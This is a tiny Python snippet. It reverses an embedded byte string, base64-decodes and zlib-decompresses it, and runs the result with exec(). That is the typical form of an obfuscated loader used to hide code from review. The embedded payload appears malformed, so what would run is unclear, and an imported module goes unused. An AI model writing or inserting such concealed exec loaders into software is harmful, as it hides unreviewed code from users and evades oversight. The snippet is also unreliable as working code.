import base64, zlib, marshal
_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))
exec((_)(b'=oQKoAAAeJwDAAAAAAE='))
